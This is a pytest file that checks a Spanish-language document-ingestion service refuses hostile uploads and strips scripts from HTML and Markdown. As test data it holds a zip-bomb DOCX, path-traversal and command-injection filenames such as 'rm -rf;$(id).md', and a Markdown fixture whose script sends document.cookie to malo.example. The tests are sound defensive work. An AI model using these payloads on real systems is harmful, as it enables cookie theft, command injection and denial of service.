"""Hostile documents through both doors: the admin upload (HTTP) and `campo ingest` (CLI).

Each refused file gets a clear Spanish 4xx (HTTP) or a reported skip (CLI), and nothing reaches the
corpus folder, the index versions or the active version. Cases already covered elsewhere are not
repeated (see docs/reliability.md): unsupported suffix, PNG as .pdf, empty .md, ``../`` and NUL names,
Content-Length over the limit (tests/test_api.py::test_rejected_uploads_write_nothing).
"""

from __future__ import annotations

import functools
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from assistant.settings import Settings
from assistant.versions import complete_versions, load_jsonl, read_active, versions_dir
from tests.test_api import AUTH, app_settings, client_for

MAX_UPLOAD = 1024 * 1024
ROOT = Path(__file__).resolve().parents[1]


# --- Hostile files ------------------------------------------------------------------------------


def blank_pdf(pages: int) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(612, 792)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def text_pdf(text: str) -> bytes:
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out)
    canvas.drawString(72, 720, text)
    canvas.showPage()
    canvas.save()
    return out.getvalue()


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf("Artículo 1. Requisitos secretos."))))
    writer.encrypt(user_password="secreto", owner_password="dueño", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bomb_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        with archive.open("word/media/relleno.bin", "w") as member:
            for _ in range(64):
                member.write(b"\0" * 2**20)  # 64 MB of zeros, ~64 KB compressed
    return out.getvalue()


def zip_not_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hoja/datos.csv", "a,b,c\n1,2,3\n")
    return out.getvalue()


def future_zip_docx() -> bytes:
    """A real DOCX whose central directory asks for zip version 23.5 (no reader supports it)."""
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    data = bytearray(out.getvalue())
    central = data.index(b"PK\x01\x02")
    data[central + 6 : central + 8] = (235).to_bytes(2, "little")  # "version needed to extract"
    return bytes(data)


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 16


@dataclass(frozen=True)
class Hostile:
    status: int  # HTTP status of the upload
    http_reason: str  # in the Spanish error message
    cli_reason: str  # in the `campo ingest` report


HOSTILE: dict[str, Hostile] = {
    "roto.pdf": Hostile(422, "PDF dañado o ilegible", "PDF dañado o ilegible"),
    "truncado.pdf": Hostile(422, "PDF dañado o ilegible", "PDF dañado o ilegible"),
    "cifrado.pdf": Hostile(422, "PDF cifrado", "PDF cifrado"),
    "miles-de-paginas.pdf": Hostile(422, "el PDF tiene 2000 páginas; el máximo es 1500", "2000 páginas"),
    "escaneado.pdf": Hostile(422, "PDF sin texto extraíble", "PDF sin texto extraíble"),
    "vacio.pdf": Hostile(422, "archivo vacío", "archivo vacío"),
    "bomba.docx": Hostile(422, "DOCX sospechoso", "DOCX sospechoso"),
    "no-es-word.docx": Hostile(422, "no corresponde a la extensión .docx", "no corresponde a la extensión"),
    # Found by tests/test_fuzz_loaders.py: zipfile raised NotImplementedError, the upload answered 500.
    "version-zip.docx": Hostile(422, "archivo dañado o ilegible", "archivo dañado o ilegible"),
    "programa.txt": Hostile(422, "no corresponde a la extensión .txt", "no corresponde a la extensión"),
    "pdf-disfrazado.md": Hostile(422, "no corresponde a la extensión .md", "no corresponde a la extensión"),
    "solo-scripts.html": Hostile(422, "no tiene texto utilizable", "no tiene texto utilizable"),
    "gigante.md": Hostile(413, "El archivo supera el límite de 1 MB.", "archivo demasiado grande"),
}


@functools.cache
def hostile_content(name: str) -> bytes:
    """The bytes of one hostile file (built on first use: the 2,000-page PDF takes ~0.5 s)."""
    return {
        "roto.pdf": lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\n" + bytes(range(256)) * 4,
        "truncado.pdf": lambda: blank_pdf(3)[:300],
        "cifrado.pdf": encrypted_pdf,
        "miles-de-paginas.pdf": lambda: blank_pdf(2000),
        "escaneado.pdf": lambda: blank_pdf(2),
        "vacio.pdf": lambda: b"",
        "bomba.docx": zip_bomb_docx,
        "no-es-word.docx": zip_not_docx,
        "version-zip.docx": future_zip_docx,
        "programa.txt": lambda: ELF,
        "pdf-disfrazado.md": lambda: text_pdf("hola"),
        "solo-scripts.html": lambda: (
            b"<html><head><script>alert(1)</script></head><body><script>fetch('/x')</script>"
            b"<style>p{}</style></body></html>"
        ),
        "gigante.md": lambda: b"# Reglas\n\n" + b"Texto de relleno. " * (MAX_UPLOAD // 18 + 1000),
    }[name]()


# Scripts, styles and hidden markup in documents that are otherwise fine: accepted, never chunk text.
SCRIPTED_HTML = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Reglas con scripts 2014</title>
<script>var rastreo = document.cookie;</script><style>body { color: red }</style></head>
<body onload="alert('cuerpo')"><main>
<h1>Reglas con scripts 2014</h1>
<p onclick="alert('clic')">Artículo 1. Objeto. Apoyo para huertos comunitarios de nopal.
<script>document.write('inyectado')</script></p>
<template><p>plantilla escondida</p></template>
<svg><script>alert('svg')</script></svg>
<noscript>Active JavaScript</noscript>
<iframe srcdoc="&lt;script&gt;alert(2)&lt;/script&gt;">marco</iframe>
<!-- <script>alert('comentario')</script> -->
<p>Artículo 2. Monto. Hasta 7,500 pesos por huerto.</p>
<script>
var sinCerrar = "fin del documento";
</main></body></html>"""

SCRIPTED_MD = """---
id: md-con-scripts
title: Lineamientos con scripts 2014
---
# Lineamientos con scripts 2014

Artículo 1. Objeto. Apoyo para apiarios familiares.

<script>
var robo = document.cookie;

fetch("https://malo.example/" + robo);
</script>

<style>body { color: red }</style>

Artículo 2. Monto. <script>alert("hola")</script> Hasta 4,200 pesos por apiario.

<!-- comentario
de varias líneas -->
"""

SCRIPT_MARKERS = (
    "rastreo",
    "document.",
    "alert(",
    "fetch(",
    "inyectado",
    "plantilla escondida",
    "color: red",
    "sinCerrar",
    "Active JavaScript",
    "comentario",
)

# Not UTF-8: Latin-1 / Windows-1252 text is a real document, read with its accents intact.
LATIN1_TXT = (
    "Artículo 1. Población. Podrán participar los productores de café de Veracruz.\n\n"
    "Artículo 2. Montos. El apoyo máximo es de 9,300 pesos por año.\n"
).encode("cp1252")


# --- Helpers --------------------------------------------------------------------------------------


def snapshot(settings: Settings) -> dict[str, Any]:
    """Everything a refused upload or ingestion must leave as it was."""
    jobs = settings.data_dir / "jobs"
    return {
        "corpus": sorted(str(p.relative_to(settings.corpus_dir)) for p in settings.corpus_dir.rglob("*")),
        "beside_corpus": sorted(p.name for p in settings.corpus_dir.parent.iterdir()),
        "active": read_active(settings.index_dir),
        "versions": complete_versions(settings.index_dir),
        "partials": sorted(p.name for p in versions_dir(settings.index_dir).glob(".*")),
        "jobs": sorted(p.name for p in jobs.iterdir()) if jobs.exists() else [],
    }


def active_chunks(settings: Settings) -> list[dict[str, Any]]:
    version = read_active(settings.index_dir)
    assert version
    return load_jsonl(versions_dir(settings.index_dir) / version / "chunks.jsonl")


def assert_no_script_text(chunks: list[dict[str, Any]]) -> None:
    text = "\n".join(c["text"] for c in chunks)
    leaked = [m for m in SCRIPT_MARKERS if m in text]
    assert not leaked, f"script/hidden content in chunks: {leaked}"


@pytest.fixture(scope="module")
def hostile_settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """One indexed corpus for every refused upload (a refused upload changes nothing)."""
    return app_settings(tmp_path_factory.mktemp("hostile"), max_upload_bytes=MAX_UPLOAD)


@pytest.fixture
async def hostile_client(hostile_settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    async with await client_for(hostile_settings) as client:
        yield client


# --- HTTP upload ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE))
async def test_hostile_upload_is_refused_in_spanish_and_writes_nothing(
    hostile_settings: Settings, hostile_client: httpx.AsyncClient, name: str
) -> None:
    case = HOSTILE[name]
    before = snapshot(hostile_settings)
    r = await hostile_client.post(
        "/v1/admin/documents",
        headers=AUTH,
        files={"files": (name, hostile_content(name), "application/octet-stream")},
    )
    assert r.status_code == case.status, r.text
    assert case.http_reason in r.json()["error"]["message"]
    assert snapshot(hostile_settings) == before


@pytest.mark.parametrize(
    "name",
    [
        "/etc/passwd.md",
        "..\\..\\fuera.md",
        "sub/dir.md",
        ".oculto.md",
        "doc.md.meta.yaml",  # would attach metadata to another document
        "x" * 200 + ".md",
        "rm -rf;$(id).md",
        "",
    ],
)
async def test_upload_names_that_are_not_plain_file_names_are_refused(
    hostile_settings: Settings, hostile_client: httpx.AsyncClient, name: str
) -> None:
    before = snapshot(hostile_settings)
    r = await hostile_client.post(
        "/v1/admin/documents", headers=AUTH, files={"files": (name, b"# Hola\n\nTexto.", "text/markdown")}
    )
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] in ("invalid_filename", "invalid_request")
    assert snapshot(hostile_settings) == before


async def test_one_bad_file_in_a_batch_refuses_the_whole_batch(
    hostile_settings: Settings, hostile_client: httpx.AsyncClient
) -> None:
    before = snapshot(hostile_settings)
    r = await hostile_client.post(
        "/v1/admin/documents",
        headers=AUTH,
        files=[
            ("files", ("bueno.md", b"# Reglas\n\nArticulo 1. Texto valido.", "text/markdown")),
            ("files", ("cifrado.pdf", hostile_content("cifrado.pdf"), "application/pdf")),
        ],
    )
    assert r.status_code == 422 and "cifrado.pdf" in r.json()["error"]["message"]
    assert snapshot(hostile_settings) == before  # not even the good file


async def _chunked(
    total: int, counter: list[int], piece: int = 64 * 1024, head: bytes = b""
) -> AsyncIterator[bytes]:
    if head:
        yield head
    sent = 0
    while sent < total:
        counter[0] += 1
        sent += piece
        yield b"a" * piece


MULTIPART_HEAD = (
    b'--x\r\nContent-Disposition: form-data; name="files"; filename="largo.txt"\r\n'
    b"Content-Type: text/plain\r\n\r\n"
)


async def test_chunked_body_without_length_is_cut_at_the_limit(tmp_path: Path) -> None:
    """No Content-Length: the body is counted as it arrives (it used to be read whole into memory)."""
    settings = app_settings(tmp_path, max_request_bytes=256 * 1024)
    async with await client_for(settings) as client:
        pieces = [0]
        r = await client.post(
            "/v1/ask",
            content=_chunked(8 * 1024 * 1024, pieces),
            headers={"content-type": "application/json"},
        )
        assert r.status_code == 413, r.text
        assert r.json()["error"]["message"] == "La solicitud es demasiado grande."
        assert pieces[0] <= 6  # stopped after ~256 KB, not after 8 MB
        before = snapshot(settings)
        r = await client.post(
            "/v1/admin/documents",
            headers={**AUTH, "content-type": "multipart/form-data; boundary=x"},
            content=_chunked(8 * 1024 * 1024, [0], head=MULTIPART_HEAD),
        )
        assert r.status_code == 413
        assert snapshot(settings) == before
        ok = await client.post("/v1/ask", json={"question": "cuanto es el apoyo por pescador"})
        assert ok.status_code == 200


async def test_scripts_and_non_utf8_text_are_accepted_but_scripts_never_become_chunks(
    tmp_path: Path,
) -> None:
    from tests.test_api import wait_job

    settings = app_settings(tmp_path, max_upload_bytes=MAX_UPLOAD)
    async with await client_for(settings) as client:
        r = await client.post(
            "/v1/admin/documents",
            headers=AUTH,
            files=[
                ("files", ("con-scripts.html", SCRIPTED_HTML.encode(), "text/html")),
                ("files", ("con-scripts.md", SCRIPTED_MD.encode(), "text/markdown")),
                ("files", ("latin1.txt", LATIN1_TXT, "text/plain")),
            ],
        )
        assert r.status_code == 202, r.text
        job = await wait_job(client, r.json()["job"]["job_id"])
        assert job["status"] == "succeeded" and not job["report"]["failed"], job
        answer = (await client.post("/v1/ask", json={"question": "monto por huerto de nopal"})).json()
        assert "7,500 pesos" in answer["answer"]
    chunks = active_chunks(settings)
    assert_no_script_text(chunks)
    assert any("Apoyo para apiarios familiares" in c["text"] for c in chunks)
    assert any("Podrán participar los productores de café" in c["text"] for c in chunks)  # no mojibake


# --- CLI ingestion -----------------------------------------------------------------------------------


def run_cli(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "CAMPO_DATA_DIR": str(settings.data_dir),
        "CAMPO_CORPUS_DIR": str(settings.corpus_dir),
        "CAMPO_EMBEDDINGS": "fake",
        "CAMPO_MAX_UPLOAD_BYTES": str(MAX_UPLOAD),
        "PYTHONPATH": str(ROOT),
    }
    return subprocess.run(
        [sys.executable, "-m", "campo.cli", "ingest", "--quiet", "--json", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
        cwd=ROOT,
    )


@pytest.fixture(scope="module")
def cli_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, dict[str, Any], dict[str, Any]]:
    """`campo ingest` over an indexed corpus plus every hostile file: (settings, report, before)."""
    settings = app_settings(tmp_path_factory.mktemp("cli"), max_upload_bytes=MAX_UPLOAD)
    before = snapshot(settings)
    for name in HOSTILE:
        (settings.corpus_dir / name).write_bytes(hostile_content(name))
    run = run_cli(settings)
    assert run.returncode == 2, run.stderr  # 2 = some files were skipped
    return settings, json.loads(run.stdout), before


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_cli_reports_each_hostile_file_as_skipped(
    cli_run: tuple[Settings, dict[str, Any], dict[str, Any]], name: str
) -> None:
    _, report, _ = cli_run
    reasons = {Path(f["file"]).name: f["reason"] for f in report["failed"]}
    assert HOSTILE[name].cli_reason in reasons[name]


def test_cli_with_only_hostile_new_files_leaves_the_index_untouched(
    cli_run: tuple[Settings, dict[str, Any], dict[str, Any]],
) -> None:
    settings, report, before = cli_run
    assert report["switched"] is False and report["added"] == [] and report["removed"] == []
    assert sorted(report["unchanged"]) == ["pesca-b-2014", "reglas-a-2014"]
    after = snapshot(settings)
    assert {k: after[k] for k in ("active", "versions", "partials")} == {
        k: before[k] for k in ("active", "versions", "partials")
    }
    assert {c["document_id"] for c in active_chunks(settings)} == {"pesca-b-2014", "reglas-a-2014"}


def test_cli_ingests_scripted_and_latin1_files_without_their_scripts(tmp_path: Path) -> None:
    settings = app_settings(tmp_path, max_upload_bytes=MAX_UPLOAD)
    (settings.corpus_dir / "con-scripts.html").write_text(SCRIPTED_HTML, "utf-8")
    (settings.corpus_dir / "con-scripts.md").write_text(SCRIPTED_MD, "utf-8")
    (settings.corpus_dir / "latin1.txt").write_bytes(LATIN1_TXT)
    run = run_cli(settings)
    assert run.returncode == 0, run.stdout + run.stderr
    report = json.loads(run.stdout)
    assert report["switched"] and len(report["added"]) == 3
    chunks = active_chunks(settings)
    assert_no_script_text(chunks)
    assert any("Hasta 7,500 pesos por huerto" in c["text"] for c in chunks)
    assert any("Hasta 4,200 pesos por apiario" in c["text"] for c in chunks)
    assert any("productores de café de Veracruz" in c["text"] for c in chunks)
